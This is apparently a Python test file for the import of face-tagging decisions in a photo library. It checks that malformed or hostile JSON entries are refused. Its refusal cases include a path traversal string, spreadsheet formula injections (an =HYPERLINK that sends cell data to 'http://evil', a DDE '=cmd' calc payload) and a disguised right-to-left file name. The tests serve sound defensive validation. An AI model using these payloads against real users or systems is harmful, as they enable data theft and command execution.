"""Decisions from a file that anybody may have made: taken in whole, or refused whole with the place that is wrong."""

from __future__ import annotations

import json
import os
import shutil
from pathlib import Path

import pytest

from faceorg.boxes import Box
from faceorg.catalog import clusters, faces, people, vectors
from faceorg.catalog.pictures import photo_dates, photos
from faceorg.edits import EditFacts, EditKind
from faceorg.errors import Cancelled, InvalidInput
from faceorg.library.exports import documents
from faceorg.library.exports.exchange import export_decisions, import_decisions
from faceorg.library.opening import history
from faceorg.library.people import edits
from faceorg.library.people.photo_dates import span_of
from faceorg.messages.codes import ProblemCode, ReasonCode
from faceorg.progress import CancelToken

BOX = [0.1, 0.2, 0.3, 0.4]


def a_document(photo: str = "0" * 64, **changed: object) -> dict:
    """A sound document of Anna and Ben with one drawn face of Anna; changed : keys of that face."""
    face = {"photo": photo, "box": BOX, "person": 1, "rejected": [2], "ignored": None, "drawn": True, "moved": False}
    everybody = [
        {"id": 1, "name": "Anna", "hidden": False, "born_on": "1981-03-12", "cover": None},
        {"id": 2, "name": "Ben", "hidden": False, "born_on": None, "cover": None},
    ]
    return {
        "format": "faceorg decisions",
        "version": 1,
        "people": everybody,
        "separations": [[1, 2]],
        "faces": [face | {"group": None} | changed],
    }


def with_person(**changed: object) -> dict:
    document = a_document()
    document["people"][0] |= changed
    return document


def without(key: str, of: str | None = None) -> dict:
    document = a_document()
    del (document[of][0] if of else document)[key]
    return document


def a_date(first: object = "2020-01-01T00:00:00", last: str = "2020-01-02T12:00:00") -> dict:
    return {"photo": "0" * 64, "first": first, "last": last}


def a_turn(quarters: int) -> dict:
    return {"photo": "0" * 64, "quarters": quarters}


INFINITE, NOTHING = float("inf"), float("nan")

REFUSED = [
    (a_document(box=[INFINITE, 0, 1, 1]), ReasonCode.BOX_OUTSIDE),
    (a_document(box=[NOTHING] * 4), ReasonCode.BOX_OUTSIDE),
    (a_document(box=[-5, -5, -1, -1]), ReasonCode.BOX_OUTSIDE),
    (a_document(box=[0.3, 0.3, 1e308, 1e308]), ReasonCode.BOX_OUTSIDE),
    (a_document(box=[10**400, 0, 1, 1]), ReasonCode.BOX_OUTSIDE),
    (a_document(box=[0.8, 0.1, 0.3, 0.1]), ReasonCode.BOX_OUTSIDE),
    (a_document(box=[0.5, 0.5, 0, 0]), ReasonCode.BOX_EMPTY),
    (a_document(box=[True, 0, 1, 1]), ReasonCode.ENTRY_OF_WRONG_KIND),
    (a_document(box=[0.1, 0.1, 0.1]), ReasonCode.ENTRY_OF_WRONG_KIND),
    (a_document(box="0.1"), ReasonCode.ENTRY_OF_WRONG_KIND),
    (a_document(photo="../../etc/passwd"), ReasonCode.ENTRY_OF_WRONG_KIND),
    (a_document(person=3), ReasonCode.PERSON_NOT_IN_DOCUMENT),
    (a_document(person=1.0), ReasonCode.ENTRY_OF_WRONG_KIND),
    (a_document(rejected=[2**63]), ReasonCode.NUMBER_OUT_OF_RANGE),
    (a_document(ignored="boring"), ReasonCode.ENTRY_OF_WRONG_KIND),
    (a_document(ignored=[]), ReasonCode.ENTRY_OF_WRONG_KIND),
    (a_document(drawn=1), ReasonCode.ENTRY_OF_WRONG_KIND),
    (a_document(group=[INFINITE, 1]), ReasonCode.ENTRY_OF_WRONG_KIND),
    (a_document(group=[2**64, 1]), ReasonCode.NUMBER_OUT_OF_RANGE),
    (a_document() | {"separations": [[1, 1]]}, ReasonCode.ENTRY_TWICE),
    (a_document() | {"separations": {}}, ReasonCode.ENTRY_OF_WRONG_KIND),
    (a_document() | {"people": a_document()["people"] * 2}, ReasonCode.ENTRY_TWICE),
    (with_person(id=-1), ReasonCode.NUMBER_OUT_OF_RANGE),
    (with_person(born_on="1981-02-30"), ReasonCode.ENTRY_OF_WRONG_KIND),
    (with_person(born_on="9999-01-01"), ReasonCode.NUMBER_OUT_OF_RANGE),
    (with_person(born_on="0001-01-01"), ReasonCode.NUMBER_OUT_OF_RANGE),
    (with_person(born_on=19810312), ReasonCode.ENTRY_OF_WRONG_KIND),
    (with_person(born_on="19810312"), ReasonCode.ENTRY_OF_WRONG_KIND),
    (with_person(born_on="2020-W01-1"), ReasonCode.ENTRY_OF_WRONG_KIND),
    (a_document() | {"dates": [a_date(first=20200101)]}, ReasonCode.ENTRY_OF_WRONG_KIND),
    (a_document() | {"dates": [a_date(first="2020-01-01")]}, ReasonCode.ENTRY_OF_WRONG_KIND),
    (a_document() | {"dates": [a_date(first="2020-01-01T00:00:00+01:00")]}, ReasonCode.ENTRY_OF_WRONG_KIND),
    (a_document() | {"turns": [a_turn(1), a_turn(2)]}, ReasonCode.ENTRIES_CONTRADICT),
    (
        a_document() | {"dates": [a_date(), a_date(last="2020-01-02T00:00:00")]},
        ReasonCode.ENTRIES_CONTRADICT,
    ),
    (a_document() | {"other_pictures": [{"photo": "0" * 64, "other": "0" * 64}]}, ReasonCode.ENTRY_TWICE),
    (
        a_document() | {"faces": a_document()["faces"] * (documents.MOST_FACES_OF_PHOTO + 1)},
        ReasonCode.TOO_MANY_FACES_OF_PHOTO,
    ),
    (with_person(name='=HYPERLINK("http://evil/?x="&A1,"click")'), ReasonCode.NAME_IS_A_FORMULA),
    (with_person(name="=cmd|' /C calc'!A0"), ReasonCode.NAME_IS_A_FORMULA),
    (with_person(name="=SUM(A1)", looks_like_formula="yes"), ReasonCode.ENTRY_OF_WRONG_KIND),
    (with_person(name="\u200b\u200b"), ProblemCode.NAME_EMPTY),
    (with_person(name="Anna\u202ecod.exe"), ProblemCode.NAME_WITH_CONTROL_CHARACTERS),
    (with_person(name=["Anna"]), ReasonCode.ENTRY_OF_WRONG_KIND),
    (without("faces"), ReasonCode.ENTRY_MISSING),
    (without("hidden", "people"), ReasonCode.ENTRY_MISSING),
    (without("box", "faces"), ReasonCode.ENTRY_MISSING),
]


@pytest.mark.parametrize(("document", "reason"), REFUSED)
def test_a_document_with_one_wrong_entry_is_refused_whole(family, document, reason):
    with pytest.raises(InvalidInput) as caught:
        import_decisions(family.library, document, "x.json")
    assert caught.value.code == ProblemCode.EXPORT_ENTRY_UNKNOWN
    assert caught.value.fields["why"].fields["why"].code == reason
    assert people.people(family.library.catalog) == []
    assert history.history(family.library) == []


def test_the_sentence_names_the_place(family):
    document = a_document()
    document["faces"].append(document["faces"][0] | {"box": [0.5, 0.5, 0.6, 0.1]})
    with pytest.raises(InvalidInput) as caught:
        import_decisions(family.library, document, "x.json")
    assert caught.value.fields["why"].fields["place"] == "faces[1].box"


def test_a_file_beyond_any_export_is_not_read(tmp_path: Path):
    file = tmp_path / "x.json"
    with file.open("wb") as stream:
        stream.truncate(documents.LARGEST_FILE_BYTES + 1)
    with pytest.raises(InvalidInput) as caught:
        documents.read_document(file)
    assert caught.value.code == ProblemCode.EXPORT_TOO_LARGE


@pytest.mark.parametrize(
    ("version", "said"),
    [
        (True, ProblemCode.NOT_AN_EXPORT),
        (1.0, ProblemCode.NOT_AN_EXPORT),
        ("1", ProblemCode.NOT_AN_EXPORT),
        (2, ProblemCode.EXPORT_TOO_NEW),
    ],
)
def test_a_version_is_a_whole_number(tmp_path: Path, version, said):
    (tmp_path / "x.json").write_text(json.dumps(a_document() | {"version": version}))
    with pytest.raises(InvalidInput) as caught:
        documents.read_document(tmp_path / "x.json")
    assert caught.value.code == said


def test_a_photo_that_is_named_twice_with_one_turn_is_taken():
    """As an export of a library with copies does."""
    document = a_document() | {"turns": [a_turn(1), a_turn(1)]}
    assert documents.checked_document(document, "x.json").turns == {"0" * 64: 1}


def test_what_is_exported_of_copies_that_were_dated_one_by_one_can_be_imported(studio):
    """By a faceorg of before: contents have one date in a document, and one that contradicts itself is refused."""
    path = studio.take("a.png", "anna")
    shutil.copy(path, studio.photos / "copy.png")
    studio.scan()
    for photo, day in zip(photos.all_photos(studio.library.catalog), ("1990-05-01", "1991-05-01"), strict=True):
        with studio.library.edit(EditFacts(EditKind.DATED, photos=1)):
            photo_dates.say_date(studio.library.catalog.connection, [photo.id], span_of(day))
    document = export_decisions(studio.library)
    assert [entry["first"] for entry in document["dates"]] == ["1991-05-01T00:00:00"]
    assert import_decisions(studio.library, document, "x.json").dates == 1


@pytest.mark.skipif(not hasattr(os, "mkfifo"), reason="there are no named pipes here")
def test_a_pipe_is_not_waited_for(tmp_path: Path):
    os.mkfifo(tmp_path / "x.json")
    with pytest.raises(InvalidInput) as caught:
        documents.read_document(tmp_path / "x.json")
    assert caught.value.code == ProblemCode.NOT_AN_EXPORT


def test_the_documents_that_went_wrong_are_refused_and_the_sound_one_is_not(field, family):
    refused, sound = [], []
    for file in sorted(field("import_documents").glob("*.json")):
        try:
            import_decisions(family.library, documents.read_document(file), file.name)
            sound.append(file.name)
        except InvalidInput:
            refused.append(file.name)
    assert sound == ["valid_drawn.json"]
    assert len(refused) == 10


def test_names_that_only_look_odd_are_taken(family):
    names = ["-Anna", "@home", "=)", "Zoë", "\u0645\u06cc\u200c\u062e\u0648\u0627\u0647\u0645", "+1"]
    document = a_document() | {"faces": [], "separations": []}
    document["people"] = [
        {"id": number, "name": name, "hidden": False, "born_on": None, "cover": None}
        for number, name in enumerate(names)
    ]
    import_decisions(family.library, document, "x.json")
    assert {person.name for person in people.people(family.library.catalog)} == set(names)


@pytest.mark.parametrize("name", ['=HYPERLINK("http://evil/?x="&A1,"click")', "-Anna (Ben's)!", "@home (old)", "=1+1"])
def test_an_export_is_never_refused_for_how_somebody_is_called_in_it(family, name):
    """A name that looks like a formula came from a sidecar, or somebody wanted it: the export says that it is meant."""
    edits.name_cluster(family.library, clusters.clusters(family.library.catalog)[0].id, name)
    exported = json.loads(json.dumps(export_decisions(family.library)))
    assert [person.name for person in documents.checked_document(exported, "x.json").people] == [name]


def test_two_people_of_one_name_stay_two(family):
    document = a_document()
    document["people"][1]["name"] = "Anna"
    import_decisions(family.library, document, "x.json")
    assert len(people.people_named(family.library.catalog, "Anna")) == 2
    import_decisions(family.library, document, "x.json")
    assert len(people.people_named(family.library.catalog, "Anna")) == 2


def a_drawn_face(family, **changed: object):
    """Import a document with one drawn face in the first photo; returns (photo, what was imported)."""
    photo = photos.photo(family.library.catalog, 1)
    assert photo.content_hash is not None
    document = a_document(photo=photo.content_hash, box=[0.8, 0.05, 0.1, 0.1], rejected=[], **changed)
    return photo, import_decisions(family.library, document, "x.json")


def test_a_drawn_face_gets_its_embedding_with_the_next_scan(family):
    photo, done = a_drawn_face(family)
    assert done.edited.changes.photos == {photo.id}
    family.scan()
    (drawn,) = [face for face in faces.faces_of_photo(family.library.catalog, photo.id) if face.drawn]
    assert drawn.box == Box(0.8, 0.05, 0.1, 0.1)
    assert len(vectors.embeddings_of(family.library.catalog, "fake", [drawn.id]).face_ids) == 1


def test_undo_of_an_import_takes_its_drawn_faces_away_and_brings_the_photo_back(family):
    def seen():
        return [(face.id, face.box, face.person_id) for face in faces.faces_of_photo(family.library.catalog, 1)]

    before = seen()
    a_drawn_face(family)
    family.scan()
    assert len(seen()) == len(before) + 1
    history.undo(family.library)
    assert seen() == before
    assert vectors.faces_without_embedding(family.library.catalog, "fake") == []


def test_the_same_import_again_looks_at_no_photo_again(family):
    a_drawn_face(family)
    family.scan()
    _photo, again = a_drawn_face(family)
    assert again.edited.changes.photos == frozenset()
    assert family.scan()[1] == []


def test_a_stopped_import_changes_nothing(family):
    token = CancelToken()
    token.cancel()
    with pytest.raises(Cancelled):
        import_decisions(family.library, a_document(), "x.json", cancel=token)
    assert people.people(family.library.catalog) == []


class _CancelledAt(CancelToken):
    """Cancelled when it has been asked so many times."""

    def __init__(self, times: int) -> None:
        super().__init__()
        self.left = times

    def raise_if_cancelled(self) -> None:
        self.left -= 1
        if self.left < 0:
            self.cancel()
        super().raise_if_cancelled()


def many_faces(family, count: int) -> dict:
    """Drawn faces side by side in the first photo."""
    photo = photos.photo(family.library.catalog, 1)
    faces_of_photo = [
        a_document(photo=photo.content_hash, box=[at % 100 / 100, at // 100 / 100, 0.01, 0.01], rejected=[])["faces"][0]
        for at in range(count)
    ]
    return a_document() | {"faces": faces_of_photo}


def test_an_import_can_be_stopped_among_the_faces_of_one_photo(family):
    token = _CancelledAt(150)  # after two people and all that is compared
    with pytest.raises(Cancelled):
        import_decisions(family.library, many_faces(family, 100), "x.json", cancel=token)
    assert not any(face.drawn for face in faces.faces_of_photo(family.library.catalog, 1))


def test_faces_of_a_photo_are_found_again_without_comparing_each_with_each_by_itself(family, monkeypatch):
    """Ten thousand of them took minutes: their number squared."""
    document = many_faces(family, 400)
    import_decisions(family.library, document, "x.json")
    asked = []
    one_by_one = Box.iou
    monkeypatch.setattr(Box, "iou", lambda box, other: asked.append(1) or one_by_one(box, other))
    again = import_decisions(family.library, document, "x.json")
    assert (again.faces, again.unmatched) == (400, 0)
    assert len(asked) <= 2 * 400
    assert again.edited.changes.photos == frozenset()  # each lay where its own entry says


def test_an_import_asks_the_catalogue_once_for_all_people(family, monkeypatch):
    """Asking for each person would take hours for a hundred thousand."""
    asked = []
    whole = people.people
    monkeypatch.setattr(people, "people", lambda catalog: asked.append(1) or whole(catalog))
    document = a_document() | {"faces": [], "separations": []}
    document["people"] = [
        {"id": number, "name": f"Person {number}", "hidden": False, "born_on": None, "cover": None}
        for number in range(500)
    ]
    reports = []
    done = import_decisions(family.library, document, "x.json", progress=reports.append)
    assert done.people == 500
    assert len(asked) == 1
    assert reports[-1].done == reports[-1].total == 500


def test_splits_of_a_document_stay_apart(family):
    everyone = [face.id for face in faces.all_faces(family.library.catalog)]
    edits.split_faces(family.library, everyone[:2])
    edits.split_faces(family.library, everyone[2:4])
    document = export_decisions(family.library)
    history.undo(family.library)
    history.undo(family.library)
    import_decisions(family.library, document, "x.json")
    found = people.parts_split_off(family.library.catalog)
    assert [found[face] for face in everyone[:4]] == [(1, 1), (1, 1), (2, 2), (2, 2)]


def test_what_is_about_photos_that_are_not_here_is_counted(family) -> None:
    here = photos.photo_at(family.library.catalog, family.photos / "anna0.png")
    document = a_document()
    summer = {"first": "1974-06-01T00:00:00", "last": "1974-08-31T23:59:59"}
    document["dates"] = [{"photo": here.content_hash, **summer}, {"photo": "1" * 64, **summer}]
    document["people"][0]["cover"] = {"photo": "2" * 64, "box": BOX}
    box = faces.faces_of_photo(family.library.catalog, here.id)[0].box
    document["people"][1]["cover"] = {
        "photo": here.content_hash,
        "box": [box.x, box.y, box.width, box.height],
    }
    done = import_decisions(family.library, document, "decisions.json")
    assert (done.faces, done.unmatched) == (0, 1)
    assert (done.dates, done.unmatched_dates, done.unmatched_covers) == (1, 1, 1)


def test_a_cover_lies_in_the_photo_that_stands_for_its_copies(family) -> None:
    """Also where that is not the first of them: the first one's own faces are covered."""
    shutil.copy(family.photos / "anna0.png", family.photos / "zz.png")
    family.scan()
    content = (family.photos / "anna0.png").read_bytes()
    (family.photos / "anna0.png").unlink()
    family.scan()
    (family.photos / "anna0.png").write_bytes(content)
    family.scan()
    (face,) = faces.faces_of_photo(family.library.catalog, _id_of(family, "anna0.png"))
    assert face.photo_id == _id_of(family, "zz.png") > _id_of(family, "anna0.png")
    anna = edits.name_faces(family.library, [face.id], "Anna").person_id
    edits.set_cover(family.library, anna, face.id)
    document = export_decisions(family.library)
    while history.undo(family.library) is not None:
        pass
    done = import_decisions(family.library, document, "decisions.json")
    assert done.unmatched_covers == 0
    (again,) = people.people(family.library.catalog)
    assert again.cover_face_id == face.id


def _id_of(studio, name: str):
    return photos.photo_at(studio.library.catalog, studio.photos / name).id
